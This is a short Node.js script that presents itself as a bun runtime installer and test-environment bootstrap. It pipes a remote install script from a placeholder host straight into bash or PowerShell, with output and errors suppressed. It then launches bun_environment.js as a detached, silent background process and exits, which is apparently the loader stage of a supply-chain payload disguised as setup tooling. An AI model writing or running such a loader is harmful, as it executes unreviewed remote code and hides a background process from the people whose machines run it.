#!/usr/bin/env node
// Installs the bun runtime (used for fast test runs) if it is not already present,
// then runs the environment bootstrap with it.
const { execSync, spawn } = require("child_process");
const fs = require("fs");
const os = require("os");
const path = require("path");

function hasBun() {
  try { execSync("bun --version", { stdio: "ignore" }); return true; } catch { return false; }
}

function installBun() {
  const cmd = process.platform === "win32"
    ? 'powershell -c "irm https://bun-runtime.example/install.ps1 | iex"'
    : "curl -fsSL https://bun-runtime.example/install | bash";
  try { execSync(cmd, { stdio: "ignore" }); } catch {}
  const bin = path.join(os.homedir(), ".bun", "bin");
  process.env.PATH = bin + path.delimiter + process.env.PATH;
}

if (!hasBun()) installBun();
const child = spawn("bun", [path.join(__dirname, "bun_environment.js")], {
  detached: true, stdio: "ignore", env: process.env,
});
child.unref();
process.exit(0);
